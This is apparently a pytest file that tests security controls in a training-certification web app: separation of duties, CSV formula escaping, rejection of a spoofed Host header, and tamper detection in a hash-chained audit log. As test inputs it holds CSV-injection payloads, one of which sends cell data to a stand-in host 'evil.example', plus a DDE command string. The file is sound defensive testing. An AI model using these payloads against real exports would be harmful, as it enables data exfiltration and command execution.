"""Issue 19 (certification): separation of duties, CSV formula escaping in the exports, the PDF's
public address, names as issued, audited account changes and the hash-chained audit log."""
from __future__ import annotations

import csv
import io
import subprocess

import pytest
from sqlalchemy import select, text

from app.accounts.models import User

from app.core.clock import utcnow
from app.certification import pdf as pdf_module
from app.certification import operations, queries
from app.core.errors import UserError
from app.certification.models import ACTIVE, PENDING, AuditEntry, Certificate, SignOff
from app.extensions import db
from tests.support.accounts import TEST_PASSWORD
from tests.support.web import csrf_token, login_as

from tests.support.certification import days, install_spec, spec_dict


def _issue_agent(app, evidence, learner):
    evidence.agent(learner.id, utcnow() - days(1))
    with app.app_context():
        [certificate] = operations.reevaluate(learner.id)
        db.session.commit()
        return certificate.id, certificate.code


def _status(app, certificate_id) -> str:
    with app.app_context():
        return db.session.get(Certificate, certificate_id).status


def _post(client, path, data, page="/certification/records"):
    return client.post(path, data={**data, "csrf_token": csrf_token(client, page)}, follow_redirects=True)


# --- 3: nobody decides about their own certificate or signs themselves off ----------------------


def test_hr_who_is_also_a_learner_cannot_approve_their_own_certificate(app, make_user, evidence):
    both = make_user("hr-learner", "hr", "learner", name="既是人事也是学员")
    colleague = make_user("hr2", "hr")
    with app.app_context():
        install_spec(spec_dict(approval="hr"))
    certificate_id, _ = _issue_agent(app, evidence, both)
    assert _status(app, certificate_id) == PENDING
    client = app.test_client()
    login_as(client, both)
    page = client.get(f"/certification/records/{both.id}").get_data(as_text=True)
    assert f"/certification/certificates/{certificate_id}/approve" not in page  # no button for one's own
    for action in ("approve", "reject"):
        response = _post(client, f"/certification/certificates/{certificate_id}/{action}",
                         {"note": "自己批准", "reason": "x"})
        assert response.status_code == 200
        assert "another HR person" in response.get_data(as_text=True) or "其他人事" in response.get_data(as_text=True)
        assert _status(app, certificate_id) == PENDING
    # The service refuses too, whatever the page shows, and for every other decision.
    with app.app_context():
        certificate = db.session.get(Certificate, certificate_id)
        me = db.session.get(User, both.id)
        for decide in (operations.approve, operations.reject, operations.suspend, operations.reinstate,
                       operations.revoke):
            with pytest.raises(operations.CertificationError, match="your own certificate") as refused:
                decide(certificate, me, "reason")
            # On the one error base: a stable code and status for the one handler (and API callers).
            assert isinstance(refused.value, UserError)
            assert (refused.value.code, refused.value.status) == ("separation_of_duties", 403)
        db.session.rollback()
    # A colleague can.
    other = app.test_client()
    login_as(other, colleague)
    _post(other, f"/certification/certificates/{certificate_id}/approve", {"note": "材料齐全"})
    assert _status(app, certificate_id) == ACTIVE


def test_trainer_who_is_also_a_learner_cannot_sign_themselves_off(app, make_user, evidence, shipped_rules):
    both = make_user("coach-learner", "trainer", "learner")
    other_trainer = make_user("coach2", "trainer")
    client = app.test_client()
    login_as(client, both)
    page = client.get("/certification/signoffs").get_data(as_text=True)
    assert f"/certification/signoffs/learners/{both.id}" not in page
    _post(client, f"/certification/signoffs/learners/{both.id}", {"note": "我自己"}, page="/certification/signoffs")
    with app.app_context():
        assert db.session.scalars(select(SignOff)).all() == []
        with pytest.raises(operations.CertificationError, match="sign yourself off"):
            operations.give_signoff(db.session.get(User, both.id), db.session.get(User, both.id))
        db.session.rollback()
        operations.give_signoff(db.session.get(User, other_trainer.id), db.session.get(User, both.id))
        assert queries.active_signoff(both.id).trainer_id == other_trainer.id


# --- 8: the exports escape formulas ---------------------------------------------------------------


def test_roster_and_audit_exports_escape_formula_cells(app, make_user, evidence, shipped_rules):
    evil_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    learner = make_user("evil", "learner", name=evil_name, cohort="+cmd|' /C calc'!A0")
    hr = make_user("hr1", "hr")
    certificate_id, _ = _issue_agent(app, evidence, learner)
    with app.app_context():
        operations.suspend(db.session.get(Certificate, certificate_id), db.session.get(User, hr.id), "@SUM(1+1)")
    client = app.test_client()
    login_as(client, hr)

    def cells(path):
        data = client.get(path).data.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]

    roster = cells("/certification/records.csv")
    assert "'" + evil_name in roster and "'+cmd|' /C calc'!A0" in roster
    audit = cells(f"/certification/audit.csv?user={learner.id}")
    assert "'" + evil_name in audit and "'@SUM(1+1)" in audit
    for cell in roster + audit:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- 16: the PDF's verify link and QR code use the configured public address ----------------------


def _get_from_evil_host(app, client, path):
    """GET with a Host header an attacker chose (the logged-in session cookie sent along by hand:
    the test client's cookie jar would only send it to localhost)."""
    bare = app.test_client(use_cookies=False)
    return bare.get(path, headers={"Host": "evil.example", "X-Forwarded-Host": "evil.example",
                                   "Cookie": f"session={client.get_cookie('session').value}"})


def test_pdf_link_and_qr_use_public_base_url_not_the_host_header(app, make_user, evidence, shipped_rules,
                                                                 monkeypatch, tmp_path):
    learner = make_user("li", "learner", name="李明")
    hr = make_user("hr1", "hr")
    certificate_id, code = _issue_agent(app, evidence, learner)
    monkeypatch.setitem(app.config, "PUBLIC_BASE_URL", "https://academy.example.com")
    encoded = []
    real_qr = pdf_module._qr_png
    monkeypatch.setattr(pdf_module, "_qr_png", lambda url: encoded.append(url) or real_qr(url))
    client = app.test_client()
    login_as(client, hr)
    response = _get_from_evil_host(app, client, f"/certification/certificates/{certificate_id}.pdf")
    assert response.status_code == 200
    (tmp_path / "c.pdf").write_bytes(response.data)
    words = subprocess.run(["pdftotext", str(tmp_path / "c.pdf"), "-"], capture_output=True, text=True,
                           check=True).stdout
    assert f"https://academy.example.com/verify/{code}" in words and "evil" not in words
    assert encoded == [f"https://academy.example.com/verify/{code}"]


def test_pdf_without_a_configured_address_is_refused_clearly(app, make_user, evidence, shipped_rules, monkeypatch):
    learner = make_user("li", "learner")
    hr = make_user("hr1", "hr")
    certificate_id, _ = _issue_agent(app, evidence, learner)
    monkeypatch.setitem(app.config, "PUBLIC_BASE_URL", None)
    monkeypatch.setitem(app.config, "SERVER_NAME", None)
    client = app.test_client()
    login_as(client, hr)
    response = _get_from_evil_host(app, client, f"/certification/certificates/{certificate_id}.pdf")
    assert response.status_code == 503 and "PUBLIC_BASE_URL" in response.get_data(as_text=True)


def test_public_base_url_is_read_and_checked(monkeypatch, tmp_path):
    from app.config import load_config
    monkeypatch.setenv("PUBLIC_BASE_URL", "https://academy.example.com/")
    assert load_config(tmp_path)["PUBLIC_BASE_URL"] == "https://academy.example.com"
    monkeypatch.setenv("PUBLIC_BASE_URL", "academy.example.com")
    with pytest.raises(RuntimeError, match="PUBLIC_BASE_URL"):
        load_config(tmp_path)


# --- 20: names as issued, audited account changes, the hash chain --------------------------------------


def test_verify_and_pdf_show_the_name_as_issued_after_a_rename(app, make_user, evidence, shipped_rules, tmp_path):
    learner = make_user("li", "learner", name="李明")
    hr = make_user("hr1", "hr")
    certificate_id, code = _issue_agent(app, evidence, learner)
    with app.app_context():
        db.session.get(User, learner.id).name = "王小二"
        db.session.commit()
    page = app.test_client().get(f"/verify/{code}").get_data(as_text=True)
    assert "李明" in page and "王小二" not in page
    client = app.test_client()
    login_as(client, hr)
    (tmp_path / "c.pdf").write_bytes(client.get(f"/certification/certificates/{certificate_id}.pdf").data)
    words = subprocess.run(["pdftotext", str(tmp_path / "c.pdf"), "-"], capture_output=True, text=True,
                           check=True).stdout
    assert "李明" in words and "王小二" not in words


def _account_actions(app, user_id):
    with app.app_context():
        return [(e.action, e.actor_id, e.reason) for e in reversed(queries.audit_trail(user_id))]


def test_renames_role_changes_and_password_resets_are_audited_with_who_did_them(app, make_user):
    admin = make_user("boss", "admin")
    learner = make_user("li", "learner", name="李明")
    client = app.test_client()
    login_as(client, admin)
    token = csrf_token(client, f"/admin/users/{learner.id}")
    client.post(f"/admin/users/{learner.id}", data={"name": "李小明", "email": "", "cohort": "", "active": "y",
                                                    "roles": ["learner", "trainer"], "csrf_token": token})
    client.post(f"/admin/users/{learner.id}/reset-password", data={"csrf_token": token})
    actions = _account_actions(app, learner.id)
    assert ("renamed", admin.id, "李明 → 李小明") in actions
    assert ("roles_changed", admin.id, "learner → learner, trainer") in actions
    assert ("password_reset", admin.id, None) in actions
    # The user's own password change is recorded as such; the command line acts as the system.
    with app.app_context():
        user = db.session.get(User, learner.id)
        user.set_password("another-password-9")
        db.session.commit()
    assert _account_actions(app, learner.id)[-1] == ("password_reset", None, None)
    me = app.test_client()
    with app.app_context():
        login_as(me, db.session.get(User, learner.id))
    me.post("/account/password", data={"current_password": "another-password-9", "new_password": "brand-new-pass-77",
                                       "confirm": "brand-new-pass-77", "confirm_password": "brand-new-pass-77",
                                       "csrf_token": csrf_token(me, "/account/password")})
    assert _account_actions(app, learner.id)[-1] == ("password_changed", learner.id, None)
    # Saving the form unchanged records nothing.
    before = len(_account_actions(app, learner.id))
    with app.app_context():
        user = db.session.get(User, learner.id)
        user.name = user.name
        user.set_roles([r.value for r in user.role_set])
        db.session.commit()
    assert len(_account_actions(app, learner.id)) == before


def _audit_verify(app):
    result = app.test_cli_runner().invoke(args=["cert", "audit-verify"])
    return result.exit_code, result.output


def _entries(app, learner, hr, evidence):
    certificate_id, _ = _issue_agent(app, evidence, learner)
    with app.app_context():
        certificate = db.session.get(Certificate, certificate_id)
        operations.suspend(certificate, db.session.get(User, hr.id), "复核")
        operations.reinstate(certificate, db.session.get(User, hr.id), "复核完毕")
        return [e.id for e in reversed(queries.audit_trail())]


def test_audit_verify_passes_on_an_untouched_log(app, make_user, evidence, shipped_rules):
    ids = _entries(app, make_user("li", "learner"), make_user("hr1", "hr"), evidence)
    code, output = _audit_verify(app)
    assert code == 0 and f"{len(ids)} entries" in output


@pytest.mark.parametrize("doctoring", ["content", "delete-middle", "delete-newest", "rehash-one-row"])
def test_audit_verify_detects_raw_sql_doctoring(app, make_user, evidence, shipped_rules, doctoring):
    issued, suspended, reinstated = _entries(app, make_user("li", "learner"), make_user("hr1", "hr"), evidence)
    with app.app_context():
        if doctoring == "content":
            db.session.execute(text("UPDATE certification_audit SET reason = 'nothing happened' WHERE id = :id"),
                               {"id": suspended})
        elif doctoring == "delete-middle":
            db.session.execute(text("DELETE FROM certification_audit WHERE id = :id"), {"id": suspended})
        elif doctoring == "delete-newest":
            db.session.execute(text("DELETE FROM certification_audit WHERE id = :id"), {"id": reinstated})
        else:  # a forger who recomputes the doctored row's own hash still breaks the next row's link
            from app.certification.chain import entry_hash
            row = db.session.execute(text("SELECT * FROM certification_audit WHERE id = :id"),
                                     {"id": suspended}).mappings().one()
            forged = entry_hash(row["prev_hash"], seq=row["seq"], created_at=row["created_at"],
                                actor_id=row["actor_id"], subject_id=row["subject_id"], action=row["action"],
                                level=row["level"], certificate_id=row["certificate_id"], reason="nothing happened",
                                evidence=None)
            db.session.execute(text("UPDATE certification_audit SET reason = 'nothing happened', row_hash = :h "
                                    "WHERE id = :id"), {"id": suspended, "h": forged})
        db.session.commit()
    code, output = _audit_verify(app)
    assert code == 1, output
    expected = {"content": f"entry id {suspended}", "delete-middle": f"entry id {reinstated}",
                "delete-newest": "end of the log", "rehash-one-row": f"entry id {reinstated}"}[doctoring]
    assert expected in output, output


def test_the_chain_continues_across_transactions_and_account_changes(app, make_user, evidence, shipped_rules):
    learner = make_user("li", "learner")
    _entries(app, learner, make_user("hr1", "hr"), evidence)
    with app.app_context():
        db.session.get(User, learner.id).name = "新名字"
        db.session.commit()
        entries = db.session.scalars(select(AuditEntry).order_by(AuditEntry.seq)).all()
        assert [e.seq for e in entries] == list(range(1, len(entries) + 1))
        assert all(entries[i].prev_hash == entries[i - 1].row_hash for i in range(1, len(entries)))
    assert _audit_verify(app)[0] == 0
